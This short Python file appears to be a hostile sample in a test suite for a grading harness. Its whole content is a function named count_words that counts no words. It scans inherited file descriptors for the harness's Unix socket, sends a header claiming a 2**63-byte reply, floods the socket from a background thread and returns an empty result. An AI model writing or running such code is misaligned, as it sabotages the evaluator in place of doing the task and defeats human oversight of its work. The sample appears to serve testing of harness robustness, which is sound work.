"""A reply announces that it will be 2**63 bytes long, and then never stops."""
# solves = []
# keeps = []

# %% words-solution
import os
import socket
import struct
import threading


def flood(end):
    while True:
        end.send(b"x" * 65536)


def count_words(text):
    for number in range(3, 1024):
        try:
            end = socket.socket(fileno=os.dup(number))
        except OSError:
            continue
        if (
            end.family == socket.AF_UNIX
            and end.type == socket.SOCK_STREAM
            and not end.getsockname()
        ):
            end.send(struct.pack("<QBQ", 2**63, 3, 1))
            threading.Thread(target=flood, args=(end,), daemon=True).start()
    return {}
